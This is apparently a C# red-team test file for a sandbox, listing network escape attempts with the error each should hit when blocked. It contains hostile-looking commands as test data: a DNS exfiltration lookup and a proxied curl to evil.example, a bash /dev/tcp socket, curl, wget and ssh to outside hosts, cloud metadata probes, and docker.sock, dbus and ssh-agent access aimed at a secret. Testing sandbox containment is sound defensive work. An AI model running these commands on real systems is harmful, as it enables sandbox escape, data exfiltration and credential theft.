namespace Pantheon.Integration.Tests.RedTeam;

/// <summary>Rows 1 to 9 and 11 to 14: ways out by a socket.</summary>
internal static class NetworkAttacks
{
    public static IReadOnlyList<Attack> All { get; } =
    [
        new(1, "dns-exfil", scene => scene.Shell("RES_OPTIONS='timeout:1 attempts:1' getent hosts secret.evil.example || echo \"rc $?\""))
            { Ground = Ground.Internet, Works = ["rc 2"], Blocked = "rc 2" },
        new(2, "udp-53", scene => scene.Probing("udp", "8.8.8.8", "53")) { Ground = Ground.Internet, Blocked = "ENETUNREACH", BlockedInB = "EPERM" },
        new(2, "udp6-53", scene => scene.Probing("udp", "2001:db8::1", "53")) { Ground = Ground.Internet, Blocked = "ENETUNREACH", BlockedInB = "EPERM" },
        new(3, "dev-tcp", scene => scene.Running("/bin/bash", "-c", "exec 2>&1; exec 3<>/dev/tcp/1.1.1.1/443 && echo open"))
            { Ground = Ground.Internet, Blocked = "Network is unreachable", BlockedInB = "socket: Operation not permitted" },
        Fetch("curl", "curl -sS -m 5 http://1.1.1.1/", "rc 7"),
        Fetch("wget", "wget -q -T 5 -t 1 -O - http://1.1.1.1/", "rc 4"),
        Fetch("curl-proxy", "curl -sS -m 5 -x http://8.8.8.8:80 http://evil.example/", "rc 7"),
        new(4, "ssh", scene => scene.Shell("ssh -o BatchMode=yes -o ConnectTimeout=5 -p 22 198.51.100.1 true"))
            { Ground = Ground.Internet, Works = ["onnection", "banner", "kex"], Blocked = "198.51.100.1 port 22: Network is unreachable", BlockedInB = "socket: Operation not permitted" },
        new(4, "ping", scene => scene.Probing("socket", "2", "3", "1")) { Ground = Ground.OwnNamespaces, Blocked = "EPERM" },
        new(5, "host-loopback", scene => scene.Probing("tcp", "127.0.0.1", scene.TcpPort)) { Blocked = "ECONNREFUSED", BlockedInB = "EPERM" },
        new(5, "host-loopback-6", scene => scene.Probing("tcp", "::1", scene.TcpPort6)) { Blocked = "ECONNREFUSED", BlockedInB = "EPERM" },
        new(5, "host-loopback-mapped", scene => scene.Probing("tcp", "::ffff:127.0.0.1", scene.TcpPort)) { Blocked = "ECONNREFUSED", BlockedInB = "EPERM" },
        new(5, "host-any-address", scene => scene.Probing("tcp", "0.0.0.0", scene.TcpPort)) { Blocked = "ECONNREFUSED", BlockedInB = "EPERM" },
        new(6, "metadata-4", scene => scene.Probing("tcp", "169.254.169.254", "80")) { Ground = Ground.Internet, Blocked = "ENETUNREACH", BlockedInB = "EPERM" },
        new(6, "metadata-6", scene => scene.Probing("tcp", "fd00:ec2::254", "80")) { Ground = Ground.Internet, Blocked = "ENETUNREACH", BlockedInB = "EPERM" },
        Family(7, "vsock", "40", "1", Ground.Plain),
        Family(8, "netlink", "16", "3", Ground.Plain),
        Family(8, "packet", "17", "3", Ground.OwnNamespaces),
        new(8, "raw", scene => scene.Probing("socket", "2", "3", "255")) { Ground = Ground.OwnNamespaces, Blocked = "EPERM" },
        Family(8, "kernel-crypto", "38", "5", Ground.Plain),
        Family(8, "bluetooth", "31", "3", Ground.Plain),
        Family(8, "can", "29", "3", Ground.Plain),
        Family(8, "tipc", "30", "5", Ground.Plain),
        Family(8, "express-data-path", "44", "3", Ground.OwnNamespaces),
        new(11, "docker.sock", scene => scene.Probing("unix", scene.DaemonSocket)) { Works = ["open: pantheon-secret"], Blocked = "ENOENT", OpenInB = "unix-path-sockets" },
        new(12, "dbus", scene => scene.Shell("DBUS_SESSION_BUS_ADDRESS=unix:path=$1; export DBUS_SESSION_BUS_ADDRESS; \"$2\" attack unix \"${DBUS_SESSION_BUS_ADDRESS#unix:path=}\"", scene.DaemonSocket, scene.Probing().FileName))
            { Works = ["open: pantheon-secret"], Blocked = "ENOENT", OpenInB = "unix-path-sockets" },
        new(13, "ssh-agent", scene => scene.Shell("SSH_AUTH_SOCK=$1 ssh-add -l", scene.AgentSocket))
            { Works = ["The agent has no identities"], Blocked = "Error connecting to agent: No such file or directory", OpenInB = "unix-path-sockets" },
        new(14, "abstract-socket", scene => scene.Probing("unix", scene.AbstractName)) { Works = ["open: pantheon-secret"], Blocked = "ECONNREFUSED", BlockedInB = "EPERM" },
    ];

    private static Attack Fetch(string name, string command, string blocked) =>
        new(4, name, scene => scene.Shell(command + " || echo \"rc $?\"")) { Ground = Ground.Internet, Works = ["public"], Blocked = blocked };

    // where a kernel lacks the family it says so itself; inside, the filter answers before the kernel does
    private static Attack Family(int row, string name, string family, string type, Ground ground) =>
        new(row, name, scene => scene.Probing("socket", family, type, "0")) { Ground = ground, Works = ["open", "EAFNOSUPPORT", "ESOCKTNOSUPPORT"], Blocked = "EPERM" };
}
